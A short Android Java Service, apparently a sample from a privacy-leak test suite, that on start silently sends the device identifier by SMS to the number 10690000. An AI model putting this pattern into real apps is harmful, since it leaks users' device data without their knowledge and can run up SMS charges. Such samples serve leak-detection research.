package cn.privlens.suite.session_for_service;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Upload extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        SmsManager.getDefault().sendTextMessage("10690000", null, Session.get().device(), null, null);
        return START_NOT_STICKY;
    }
    @Override
    public IBinder onBind(Intent intent) { return null; }
}
